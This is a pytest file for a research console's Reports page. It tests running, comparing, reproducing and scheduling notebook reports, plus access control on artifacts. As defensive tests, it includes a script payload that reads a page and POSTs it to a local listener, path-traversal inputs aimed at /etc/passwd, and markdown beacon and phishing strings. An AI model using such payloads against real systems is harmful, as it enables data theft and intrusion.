"""The console's Reports page and its artifact route (issue 13).

AppTest with real Redis for what the page renders from recorded runs (a failing cell, a drift, two runs side by
side). Then the real stack (worker, Docker, entry point) with a real console in Chromium: a researcher runs a small
template as a report from the page, opens its HTML rendering, sees a failing cell, compares two runs, reproduces one
and adds and removes a schedule. The attack from where the attacker sits: researcher A's report displays HTML with
a script; an admin opens it; the script must not run (the route's sandboxing CSP). Researcher B, with a real
console login, gets 404 for A's artifacts; paths the run did not record, and symlinks, give 404; anonymous
visitors are sent to the login.
"""

from __future__ import annotations

import http.client
import json
import re
import threading
from collections.abc import Iterator
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from launcher.adapters.celery_dispatch import CeleryDispatcher
from launcher.adapters.redis_reports import ReportStore
from launcher.models import Actor, Role, utcnow
from launcher.report_service import ReportService
from launcher.reports import CellError, Drift, ReportRun, ReportStatus
from launcher.settings import REPO_ROOT
from tests.conftest import docker_or_skip
from tests.helpers import new_context, wait_for
from tests.stack import Stack, start_console, start_stack
from tests.test_console import redis_console, texts  # noqa: F401 - the fixture, reused
from tests.test_report_runs import RESULTS, notebook
from tests.web import reach_login
from ui.auth import UserStore
from ui.reports_view import compare_rows, flatten

ARTIFACTS = REPO_ROOT / "build" / "test-artifacts" / "console"
SCREENSHOT = REPO_ROOT / "docs" / "images" / "console-reports.png"
ANN, BOB, ADMIN = "cr-ann", "cr-bob", "cr-admin"
SHA = "sha256:" + "a" * 64

# -- pure helpers ------------------------------------------------------------------------------------------


def _run(run_id: str, **fields: Any) -> ReportRun:
    return ReportRun(id=run_id, user=ANN, template="sums", requested_by=ANN, **fields)


def test_results_are_flattened_and_compared_row_by_row() -> None:
    assert flatten({"a": {"b": 1, "c": [1, 2]}, "d": "x", "e": {}}) == {"a.b": 1, "a.c": [1, 2], "d": "x", "e": {}}
    first = _run("aaaaaaaaaaa1", results={"sum": 1.5, "n": 3, "by": {"x": 1}})
    second = _run("aaaaaaaaaaa2", results={"sum": 2.0, "n": 3, "extra": True})
    rows = {r["result"]: r for r in compare_rows(first, second)}
    assert rows["n"]["differs"] == "" and rows["sum"]["differs"] and rows["by.x"]["differs"]
    assert rows["extra"]["first (aaaaaaaaaaa1)"] == "(none)" and rows["extra"]["second (aaaaaaaaaaa2)"] == "true"


# -- AppTest: the page from recorded runs (real Redis, no worker) ---------------------------------------


def test_the_page_shows_a_failing_cell_a_drift_and_two_runs_side_by_side(redis_console) -> None:  # noqa: F811
    make = redis_console
    store = ReportStore(make.store)
    now = utcnow()
    done = {"started_at": now - timedelta(seconds=12), "finished_at": now}
    record = {"image_id": SHA, "template_sha256": "b" * 64, "snapshot": "c" * 16, "template": "sums"}
    ok = store.create(
        _run(
            "rrrrrrrrrrr1",
            status=ReportStatus.SUCCEEDED,
            params={"scale": 2.0},
            results={"sum": 14.5, "n": 3},
            record=record,
            artifacts={"notebook.html": "d" * 64, "output/results.json": "e" * 64},
            **done,
        )
    )
    store.create(
        _run(
            "rrrrrrrrrrr2",
            status=ReportStatus.FAILED,
            error="cell 2 raised ZeroDivisionError",
            cell_error=CellError(
                cell=2,
                source="ratio = x / 0",
                ename="ZeroDivisionError",
                evalue="division by zero",
                traceback="Traceback: line 1",
            ),
            **done,
        )
    )
    drifted = store.create(
        _run(
            "rrrrrrrrrrr3",
            status=ReportStatus.SUCCEEDED,
            results={"sum": 15.0, "n": 3},
            record=record,
            reproduces=ok.id,
            drift=Drift(
                same=False, tolerance=1e-12, differences=["sum: 14.5 -> 15.0"], environment=["snapshot: c -> d"]
            ),
            **done,
        )
    )
    at = make(ANN, "researcher")
    at.switch_page("screens/reports.py").run()
    assert not at.exception, at.exception
    page = texts(at)
    assert "Run as report" in page and "Your runs" in page and "Compare two runs" in page and "Schedules" in page
    # The newest run is shown: a reproduction that drifted, with what changed.
    assert "DRIFT: the results differ from run rrrrrrrrrrr1" in page and "sum: 14.5 -> 15.0" in page
    assert "snapshot: c -> d" in page
    assert "/_nbl/reports/rrrrrrrrrrr3" not in page  # it has no artifacts recorded
    # The failed run: its failing cell, its error, its traceback.
    at.selectbox(key="report-pick").set_value("rrrrrrrrrrr2").run()
    page = texts(at)
    assert "ratio = x / 0" in page and "ZeroDivisionError: division by zero" in page and "Traceback: line 1" in page
    assert "This run failed" in page
    # The successful one: the record, the artifact links, Reproduce.
    at.selectbox(key="report-pick").set_value(ok.id).run()
    page = texts(at)
    assert (
        "/_nbl/reports/rrrrrrrrrrr1/notebook.html" in page and "/_nbl/reports/rrrrrrrrrrr1/output/results.json" in page
    )
    escaped = SHA.replace(":", "\\\\:")  # the record table shows it as text (markdown-escaped)
    assert any(b.key == f"reproduce-{ok.id}" for b in at.button) and escaped in page
    # Side by side (the two newest finished runs by default: the failed one and the reproduction).
    at.selectbox(key="compare-first").set_value(ok.id).run()
    at.selectbox(key="compare-second").set_value(drifted.id).run()
    page = texts(at)
    assert "The results differ in 1 place(s)" in page and "differs" in page
    # Bob sees none of Ann's runs.
    other = make(BOB, "researcher")
    other.switch_page("screens/reports.py").run()
    assert "rrrrrrrrrrr1" not in texts(other) and "No report runs yet" in texts(other)


# -- the real stack, a real console, Chromium ------------------------------------------------------------

QUICK = notebook(
    "n = 3\nlabel = 'quick'\nprint('the quick report ran with scale', scale)\n"
    "results = {'sum': 7.25 * scale, 'n': n, 'nested': {'label': label, 'half': scale / 2}}",
    RESULTS,
)
BROKEN = notebook("x = 1\nprint('before the failure')", "ratio = x / 0  # the failing cell", "print('never')")
EVIL_SCRIPT = """
document.title = "PWNED";
var m = document.createElement("div"); m.id = "pwned-marker"; m.textContent = "PWNED"; document.body.appendChild(m);
fetch("/").then(function (r) { return r.text(); }).then(function (t) {
  fetch("http://127.0.0.1:PORT/leak", {method: "POST", body: t, mode: "no-cors"}); });
new Image().src = "http://127.0.0.1:PORT/ping";
"""


def evil_notebook(port: int) -> str:
    script = EVIL_SCRIPT.replace("PORT", str(port))
    html = f'<div id="evil-output">harmless-looking output</div><script>{script}</script>'
    return notebook(
        f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))\nresults = {{'ok': 1}}", RESULTS
    )


class Listener:
    """An HTTP server on 127.0.0.1 that records every request (what a leaking script would send)."""

    def __init__(self) -> None:
        hits: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def _hit(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = _hit  # noqa: N815

            def log_message(self, *args: Any) -> None:
                pass

        self.hits = hits
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class Env:
    def __init__(self, stack: Stack, service: ReportService, url: str, listener: Listener) -> None:
        self.stack, self.service, self.url, self.listener = stack, service, url, listener

    def finished(self, user: str, run_id: str, timeout: float = 240) -> ReportRun:
        return self.service.wait(Actor(name=user, role=Role.RESEARCHER), run_id, timeout)

    def login_cookie(self, user: str) -> str:
        """A real console login: the login form, posted as a browser does."""
        r = httpx.post(f"{self.url}/login", data={"username": user, "password": f"{user}-password", "next": "/"})
        assert r.status_code == 303, (r.status_code, r.text[:300])
        return r.cookies["nbl_login"]


@pytest.fixture(scope="module")
def env(workdir: Path, redis_url: str) -> Iterator[Env]:
    client = docker_or_skip()
    folder = workdir / "console-reports"
    templates = folder / "templates"
    templates.mkdir(parents=True)
    listener = Listener()
    (templates / "broken.ipynb").write_text(BROKEN)
    (templates / "evil.ipynb").write_text(evil_notebook(listener.port))
    (templates / "quick.ipynb").write_text(QUICK)
    st = start_stack(folder / "stack", redis_url, client, templates_dir=templates, report_timeout_s=300.0)
    console = None
    try:
        settings = st.settings.model_copy(update={"users_file": folder / "users.json"})
        users = UserStore(settings.users_file)
        for user, role in ((ANN, Role.RESEARCHER), (BOB, Role.RESEARCHER), (ADMIN, Role.ADMIN)):
            users.set_user(user, role, f"{user}-password")
        console, url = start_console(settings, folder, "reports-console", LAUNCHER_USERS_FILE=str(settings.users_file))
        service = ReportService(
            st.settings, ReportStore(st.store), st.store, CeleryDispatcher.from_settings(st.settings)
        )
        yield Env(st, service, url, listener)
    finally:
        if console is not None:
            console.stop()
        listener.close()
        st.shutdown()


def settle(page) -> None:
    page.wait_for_selector('[data-testid="stApp"]', timeout=30_000)
    page.wait_for_function("!document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=60_000)


def shot(page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=ARTIFACTS / f"{name}.png", full_page=True)


def login(page, url: str, user: str) -> None:
    reach_login(page, url, settle, ARTIFACTS / f"reports-login-first-try-{user}.png")
    page.wait_for_url(re.compile(r".*/login(\?.*)?$"))
    page.fill("#username", user)
    page.fill("#password", f"{user}-password")
    page.click("button[type=submit]")
    settle(page)


def pick(page, key: str, option: str) -> None:
    """Choose ``option`` in the Streamlit selectbox with widget key ``key``."""
    page.click(f".st-key-{key} [data-testid=stSelectbox] input")
    page.get_by_role("option", name=option, exact=True).click()
    settle(page)


def detail(page, text: str, timeout: float = 240_000) -> None:
    page.locator(".st-key-report-detail", has_text=text).wait_for(timeout=timeout)


def run_and_wait(env: Env, page, template: str, expect: str, **numbers: str) -> ReportRun:
    """Run ``template`` from the page; the run's details, shown by the page, reach ``expect``."""
    ann = Actor(name=ANN, role=Role.RESEARCHER)
    before = {r.id for r in env.service.runs(ann)}
    run_from_page(page, template, **numbers)
    run = wait_for(lambda: next((r for r in env.service.runs(ann) if r.id not in before), None), 30, "the new run")
    page.locator(".st-key-report-detail").filter(has_text=run.id).filter(has_text=expect).wait_for(timeout=240_000)
    return env.service.get(ann, run.id)


def run_from_page(page, template: str, **numbers: str) -> None:
    pick(page, "report-template", template)
    for name, value in numbers.items():
        box = page.locator(f".st-key-rp-{template}-{name} input")
        box.fill(value)
        box.press("Enter")
        settle(page)
    page.click(".st-key-report-run button")
    settle(page)


def test_a_researcher_runs_compares_reproduces_and_schedules_reports_in_the_browser(env, browser) -> None:
    context = new_context(browser)
    page = context.new_page()
    try:
        login(page, env.url, ANN)
        page.get_by_role("link", name="Reports").click()
        page.get_by_text("Run as report").wait_for(timeout=30_000)
        settle(page)

        # A failing report: its failing cell, on the page.
        run_and_wait(env, page, "broken", "This run failed")
        page.locator(".st-key-report-failing-cell").filter(has_text="x / 0").filter(
            has_text="ZeroDivisionError: division by zero"
        ).wait_for(timeout=30_000)
        shot(page, "reports-01-failing-cell")

        # Two successful runs with different parameters.
        first = run_and_wait(env, page, "quick", "succeeded", scale="2")
        assert first.params == {"scale": 2.0} and first.results["sum"] == 14.5, (first.params, first.results)
        second = run_and_wait(env, page, "quick", "succeeded", scale="3")
        assert second.params == {"scale": 3.0} and second.results["sum"] == 21.75, (second.params, second.results)

        # Its HTML rendering, through the artifact link, shows the executed notebook.
        href = page.locator(".st-key-report-detail a", has_text="notebook.html").get_attribute("href")
        assert href == f"/_nbl/reports/{second.id}/notebook.html"
        rendering = context.new_page()
        response = rendering.goto(env.url + href)
        assert response is not None and response.status == 200
        assert "sandbox" in response.headers["content-security-policy"]
        rendering.get_by_text("the quick report ran with scale 3").first.wait_for(timeout=30_000)
        shot(rendering, "reports-02-html-artifact")
        rendering.close()

        # Side by side: the two newest finished runs are the defaults.
        comparison = page.locator(".st-key-report-compare")
        page.reload()
        settle(page)
        comparison.filter(has_text="≠ differs").filter(has_text="21.75").wait_for(timeout=60_000)
        text = comparison.inner_text()
        assert "differ in 2 place(s)" in text and "≠ differs" in text, text
        assert "14.5" in text and "21.75" in text and "nested.label" in text

        # Reproduce the newest one: the verdict shows on the page.
        page.click(f".st-key-reproduce-{second.id} button")
        settle(page)
        detail(page, "Same: the results match run " + second.id)

        # A schedule: added, listed, removed.
        page.get_by_text("Add a schedule").click()
        page.locator(".st-key-schedule-every input").wait_for(timeout=30_000)
        page.fill(".st-key-schedule-every input", "1d")
        page.locator(".st-key-schedule-every input").press("Enter")
        settle(page)
        page.click(".st-key-schedule-add button")
        settle(page)
        ann = Actor(name=ANN, role=Role.RESEARCHER)
        schedule = wait_for(lambda: env.service.schedules(ann), 30, "the schedule")[0][0]
        assert schedule.template == "broken" and schedule.every_s == 86400  # the first template, picked by default
        row = page.locator(f".st-key-schedule-{schedule.id}")
        # Streamlit puts the keyed container in the page before its contents (seen empty once in a full run).
        row.filter(has_text="every 1d").filter(has_text="Next due").wait_for(timeout=30_000)
        SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=SCREENSHOT, full_page=True)
        page.click(f".st-key-unschedule-{schedule.id} button")
        settle(page)
        row.wait_for(state="detached", timeout=30_000)
        assert env.service.schedules(ann) == []
    except Exception:
        shot(page, "reports-failure")
        raise
    finally:
        context.close()


@pytest.fixture(scope="module")
def evil_run(env) -> ReportRun:
    """Researcher A's report whose output is HTML with a script in it."""
    run = env.finished(ANN, env.service.run(Actor(name=ANN, role=Role.RESEARCHER), "evil").id)
    assert run.status == ReportStatus.SUCCEEDED, (run.error, run.cell_error)
    assert "notebook.html" in run.artifacts
    return run


def test_a_script_in_a_researchers_report_does_not_run_when_an_admin_opens_it(env, evil_run, browser) -> None:
    context = new_context(browser)
    page = context.new_page()
    try:
        login(page, env.url, ADMIN)
        seen = context.new_page()
        response = seen.goto(f"{env.url}/_nbl/reports/{evil_run.id}/notebook.html")
        assert response is not None and response.status == 200
        headers = response.headers
        assert headers["content-security-policy"].startswith("sandbox;")
        assert "default-src 'none'" in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff" and headers["cache-control"] == "no-store"
        assert headers["content-type"].startswith("text/html")
        body = response.text()
        assert 'document.title = "PWNED"' in body  # the script is in the page the admin opened...
        seen.locator("#evil-output", has_text="harmless-looking output").wait_for(timeout=30_000)
        seen.wait_for_timeout(3000)  # generous: a script would have run long before
        # ...and it did not run: the title, the marker, nothing sent anywhere.
        assert seen.title() != "PWNED"
        assert seen.locator("#pwned-marker").count() == 0
        assert env.listener.hits == [], env.listener.hits
        shot(seen, "reports-03-admin-opens-a-script")
    finally:
        context.close()


def raw_get(url: str, path: str, cookie: str | None) -> http.client.HTTPResponse:
    """A GET with the path sent exactly as given (no client normalizes its dot segments)."""
    host, port = url.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    conn.request("GET", path, headers={"Cookie": f"nbl_login={cookie}"} if cookie else {})
    response = conn.getresponse()
    response.read()
    conn.close()
    return response


def test_artifacts_are_served_to_their_owner_and_admins_only(env, evil_run) -> None:
    run = evil_run
    base = f"/_nbl/reports/{run.id}"
    ann, bob, admin = env.login_cookie(ANN), env.login_cookie(BOB), env.login_cookie(ADMIN)

    def get(path: str, cookie: str | None) -> httpx.Response:
        return httpx.get(env.url + path, cookies={"nbl_login": cookie} if cookie else None)

    mine = get(f"{base}/notebook.html", ann)
    assert mine.status_code == 200 and "harmless-looking output" in mine.text
    assert get(f"{base}/notebook.html", admin).status_code == 200
    results = get(f"{base}/output/results.json", ann)
    assert results.status_code == 200 and json.loads(results.text) == {"ok": 1}
    assert (
        results.headers["content-type"].startswith("text/plain")
        and results.headers["x-content-type-options"] == "nosniff"
    )
    executed = get(f"{base}/notebook.ipynb", ann)
    assert executed.status_code == 200 and executed.headers["content-disposition"].startswith("attachment")
    assert executed.headers["content-type"] == "application/octet-stream"

    # Researcher B, with a real login: A's run does not exist for them (the same answer as an unknown run).
    for path in ("notebook.html", "output/results.json", "notebook.ipynb"):
        refused = get(f"{base}/{path}", bob)
        assert refused.status_code == 404 and "harmless" not in refused.text
    assert get("/_nbl/reports/zzzzzzzzzzzz/notebook.html", bob).status_code == 404
    assert get("/_nbl/reports/NOT-A-RUN/notebook.html", ann).status_code == 404

    # Paths the run did not record: dot segments (sent as typed), a file added later, a symlink.
    folder = env.stack.settings.reports_dir / ANN / run.id
    (folder / "added-later.txt").write_text("not recorded")
    for path in (
        "../../x",
        "output/../../other",
        "output/../notebook.html",
        "%2e%2e/%2e%2e/x",
        "added-later.txt",
        "",
        "./notebook.html",
        "notebook.html/",
        "/etc/passwd",
    ):
        status = raw_get(env.url, f"{base}/{path}", ann).status
        assert status in (400, 404), (path, status)
    results_file = folder / "output" / "results.json"
    results_file.unlink()
    results_file.symlink_to("/etc/passwd")  # a recorded name, now a link: not followed
    assert get(f"{base}/output/results.json", ann).status_code == 404

    # Not logged in: sent to the login, nothing served.
    anonymous = get(f"{base}/notebook.html", None)
    assert anonymous.status_code in (303, 403) and "harmless" not in anonymous.text
    if anonymous.status_code == 303:
        assert anonymous.headers["location"].startswith("/login?")


def test_relaunch_exactly_from_the_notebooks_page(redis_console) -> None:  # noqa: F811
    """An ended session with a complete record offers "Relaunch exactly"; the click launches a new session pinned
    to that image, data snapshot and template version. A session without a record offers nothing."""
    from launcher.models import Reason, Session, SessionStatus, new_session_id, new_token
    from launcher.transitions import ActorKind, By, RecordProvenance
    from tests.helpers import bring_to

    make = redis_console
    store = make.store
    old = Session(id=new_session_id(), user=ANN, template="alpha_research", token=new_token())
    old, _ = store.launch(old, actor=ANN)
    bring_to(store, old.id, SessionStatus.STARTING)
    record = {"image_id": SHA, "template_sha256": "b" * 64, "snapshot": "c" * 16, "template": "alpha_research"}
    by = By(ActorKind.WORKER, "test")
    store.apply(old.id, RecordProvenance(by=by, reason=Reason.START, snapshot="c" * 16, record=tuple(record.items())))
    bring_to(store, old.id, SessionStatus.STOPPED)

    at = make(ANN, "researcher")
    at.switch_page("screens/notebooks.py").run()
    assert not at.exception, at.exception
    button = [b for b in at.button if b.label == "Relaunch exactly"]
    assert button, texts(at)
    assert "data snapshot cccccccccccccccc" in texts(at)
    button[0].click().run()
    assert not at.exception, at.exception
    again = store.latest_session_for(ANN)
    assert again is not None and again.id != old.id and again.status.live
    assert (again.image, again.template_sha256, again.snapshot) == (SHA, "b" * 64, "c" * 16)

    bare = Session(id=new_session_id(), user=BOB, template="alpha_research", token=new_token())
    bare, _ = store.launch(bare, actor=BOB)
    bring_to(store, bare.id, SessionStatus.STOPPED)
    at = make(BOB, "researcher")
    at.switch_page("screens/notebooks.py").run()
    assert not [b for b in at.button if b.label == "Relaunch exactly"]


def test_text_a_report_carries_is_shown_as_itself_not_as_markdown(redis_console) -> None:  # noqa: F811
    """The attack from a researcher's parameters (found by review): a parameter value that is markdown (an image
    beacon to an outside address, a phishing link, an autolink, a Streamlit colour) appears in the record and
    the comparison tables an admin opens; it must be shown as text, not rendered."""
    make = redis_console
    store = ReportStore(make.store)
    beacon = "![b](http://127.0.0.1:9977/beacon.png)"
    phish = "[Your session expired - sign in again](http://127.0.0.1:9977/phish)"
    record = {"image_id": SHA, "params": json.dumps({"run": beacon, "compare_run": phish})}
    results = {"run": beacon, "auto": "http://2130706433:9977/x", "colour": ":red[alarm] :material/lock:"}
    done = {"status": ReportStatus.SUCCEEDED, "record": record, "started_at": utcnow(), "finished_at": utcnow()}
    store.create(_run("mmmmmmmmmmm1", results=results, **done))
    store.create(_run("mmmmmmmmmmm2", results={"run": phish}, **done))
    at = make(ADMIN, "admin")
    at.switch_page("screens/reports.py").run()
    assert not at.exception, at.exception
    # Everything Streamlit renders as markdown: markdown, captions, alerts, and every cell of st.table.
    shown_as_markdown = [m.value for m in at.markdown] + [c.value for c in at.caption]
    shown_as_markdown += [e.value for e in [*at.error, *at.warning, *at.success, *at.info]]
    for table in at.table:
        shown_as_markdown += [str(v) for v in table.value.to_numpy().ravel()] + [str(c) for c in table.value.columns]
    text = "\n".join(shown_as_markdown)
    assert "9977" in text  # the values are on the page, in the record and comparison tables...
    for rendered in ("](http", "http://2130706433", ":red[", ":material/lock:"):  # ...but never as markdown
        assert rendered not in text, rendered
